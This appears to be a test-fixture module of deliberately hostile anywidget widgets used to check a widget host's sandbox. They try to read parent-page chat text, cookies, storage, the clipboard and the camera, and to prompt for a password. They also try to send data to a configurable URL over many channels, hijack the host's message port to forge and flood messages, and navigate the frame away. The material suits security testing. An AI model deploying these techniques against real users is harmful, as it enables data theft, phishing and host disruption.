"""Widgets that mean harm, each in its own way, and tell in an `output` what they got."""

from __future__ import annotations

import anywidget
import traitlets

# `got` is what an attempt came back with; nothing at all counts as refused.
_TRY = """
async function attempt(act) {
  const late = new Promise((_, reject) => setTimeout(reject, 2000, new Error("no answer")));
  try {
    const got = await Promise.race([Promise.resolve().then(act), late]);
    return got === undefined || got === null || got === false || got === "" ? "refused" : `got ${got}`;
  } catch { return "refused"; }
}
async function report(el, attempts) {
  const names = Object.keys(attempts);
  const outcomes = await Promise.all(names.map((name) => attempt(attempts[name])));
  const shown = document.createElement("output");
  shown.textContent = JSON.stringify(Object.fromEntries(names.map((name, at) => [name, outcomes[at]])));
  el.append(shown);
}
"""


class Thief(anywidget.AnyWidget):
    """Looks for the link, the chat, whatever the browser keeps, and for more than a frame may have."""

    _esm = f"""
    {_TRY}
    const addresses = () => [location.href, document.baseURI, document.referrer, document.URL, name];
    const attempts = {{
      "address of the page": () => parent.location.href,
      "address of the top": () => top.location.hash,
      "document of the page": () => parent.document.body.innerText,
      "words of the chat": () => parent.document.querySelectorAll(".message-text").length,
      "element of the frame": () => frameElement,
      "opener": () => opener,
      "cookies": () => document.cookie,
      "cookies of its own": () => {{ document.cookie = "a=b"; return document.cookie; }},
      "storage of the tab": () => sessionStorage.length + 1,
      "storage of the page": () => parent.sessionStorage.length + 1,
      "storage of the browser": () => localStorage.length + 1,
      "database": () => new Promise((resolve, reject) => {{
        const opening = indexedDB.open("a");
        opening.onsuccess = () => resolve("a database");
        opening.onerror = reject;
      }}),
      "caches": () => caches.keys().then(() => "caches"),
      "service worker": () => navigator.serviceWorker.register("/w.js").then(() => "a worker"),
      "clipboard": () => navigator.clipboard.readText().then((text) => `text ${{text}}`),
      "camera": () => navigator.mediaDevices.getUserMedia({{ video: true }}),
      "question": () => prompt("Your password?"),
      "addresses": () => addresses().some((one) => /k=|secret|\\/r\\//.test(one)),
    }};
    export default {{ render: ({{ el }}) => report(el, attempts) }};
    """


class Caller(anywidget.AnyWidget):
    """Tries each way out of the frame to an address."""

    _esm = f"""
    {_TRY}
    function loads(tag, properties) {{
      return new Promise((resolve, reject) => {{
        const made = Object.assign(document.createElement(tag), properties);
        made.onload = () => resolve("an answer");
        made.onerror = reject;
        document.body.append(made);
      }});
    }}
    function work(code) {{
      const source = URL.createObjectURL(new Blob([code], {{ type: "text/javascript" }}));
      return new Promise((resolve, reject) => {{
        const worker = new Worker(source);
        worker.onmessage = (event) => resolve(event.data);
        worker.onerror = (event) => {{ event.preventDefault(); reject(event); }};
      }});
    }}
    async function render({{ model, el }}) {{
      const url = model.get("url");
      const host = url.replace("http", "ws");
      const style = (textContent) => {{
        document.head.append(Object.assign(document.createElement("style"), {{ textContent }}));
      }};
      const tell = `.then(() => postMessage("an answer"), () => postMessage(""))`;
      await report(el, {{
        "request": () => fetch(url, {{ mode: "no-cors" }}).then(() => "an answer"),
        "older request": () => new Promise((resolve, reject) => {{
          const asking = new XMLHttpRequest();
          asking.onload = () => resolve("an answer");
          asking.onerror = reject;
          asking.open("GET", url);
          asking.send();
        }}),
        "beacon": () => {{ navigator.sendBeacon(url, "secret"); }},
        "socket": () => new Promise((resolve, reject) => {{
          const socket = new WebSocket(host);
          socket.onopen = () => resolve("a socket");
          socket.onerror = reject;
        }}),
        "events": () => new Promise((resolve, reject) => {{
          const source = new EventSource(url);
          source.onopen = () => resolve("events");
          source.onerror = reject;
        }}),
        "import": () => import(`${{url}}/a.js`).then(() => "a module"),
        "worker": () => work(`importScripts("${{url}}/w.js"); postMessage("a script")`),
        "request of a worker": () => work(`fetch("${{url}}")${{tell}}`),
        "script": () => loads("script", {{ src: `${{url}}/s.js` }}),
        "image": () => loads("img", {{ src: `${{url}}/i.png` }}),
        "video": () => loads("video", {{ src: `${{url}}/v.mp4` }}),
        "style sheet": () => loads("link", {{ rel: "stylesheet", href: `${{url}}/s.css` }}),
        "prefetch": () => loads("link", {{ rel: "prefetch", href: `${{url}}/p` }}),
        "object": () => loads("object", {{ data: `${{url}}/o` }}),
        "style": () => style(`@import "${{url}}/a.css"; body {{ background: url("${{url}}/b.png"); }}`),
        "font": () => new FontFace("f", `url("${{url}}/f.woff2")`).load().then(() => "a font"),
        "frame": () => {{ document.body.append(Object.assign(document.createElement("iframe"), {{ src: url }})); }},
        "form": () => {{
          const form = Object.assign(document.createElement("form"), {{ action: url, method: "post" }});
          document.body.append(form);
          form.submit();
        }},
        "call": async () => {{
          const [server, username, credential] = [host.replace("ws://", "turn:"), "a", "b"];
          const iceServers = [{{ urls: `${{server}}?transport=tcp`, username, credential }}];
          const calling = new RTCPeerConnection({{ iceServers }});
          calling.createDataChannel("a");
          await calling.setLocalDescription(await calling.createOffer());
          await new Promise((resolve) => setTimeout(resolve, 1000));
        }},
        "window": () => open(url),
        "link to the top": () => {{
          const link = Object.assign(document.createElement("a"), {{ href: url, target: "_top", ping: url }});
          document.body.append(link);
          link.click();
        }},
        "leaving the page": () => {{ top.location = url; }},
      }});
    }}
    export default {{ render }};
    """
    url = traitlets.Unicode().tag(sync=True)


class Forger(anywidget.AnyWidget):
    """Takes the port that its host speaks through, and says what a host never says, too much of it at last."""

    _esm = """
    function stolenPort(model) {
      const { prototype } = MessagePort;
      const { postMessage } = prototype;
      return new Promise((resolve) => {
        prototype.postMessage = function (...message) {
          prototype.postMessage = postMessage;
          resolve(this);
          return postMessage.apply(this, message);
        };
        model.send("hello");
      });
    }
    async function render({ model, el }) {
      const port = await stolenPort(model);
      const emit = (to, content) => port.postMessage({ type: "emit", model: to, content, buffers: [] });
      const set = (values) => port.postMessage({ type: "set", turn: 1, values });
      emit("", { ask: "stop" });
      emit("", { ask: "allow", key: "tuner/caption", what: "trait" });
      emit("nobody", "hello");
      emit("tuner", { do: "something" });
      set({ "/notes": "forged", "tuner/caption": "forged", "tuner/_esm": "forged", "tuner/_css": "forged" });
      set({ "nobody/value": 1, "tuner/undeclared": 1, "tuner": 1, "": 1 });
      for (const odd of [null, 7, "text", [], { type: "stop" }, { type: "set" }]) port.postMessage(odd);
      for (const height of [-1, Infinity, "1px"]) port.postMessage({ type: "size", height });
      for (let at = 0; at < 2000; at += 1) {
        const text = `failure ${at} ${"x".repeat(500)}`;
        port.postMessage({ type: "failure", failure: { model: "tuner", phase: "render", text } });
        emit("forger", { at });
        set({ "forger/count": at });
      }
      el.innerHTML = "<output>done</output>";
    }
    export default { render };
    """
    count = traitlets.Int(0).tag(sync=True)


class Runaway(anywidget.AnyWidget):
    """At a click, takes its frame to another address."""

    _esm = """
    function render({ model, el }) {
      const button = document.createElement("button");
      button.textContent = "away";
      button.onclick = () => { location.href = model.get("url"); };
      el.append(button);
    }
    export default { render };
    """
    url = traitlets.Unicode().tag(sync=True)
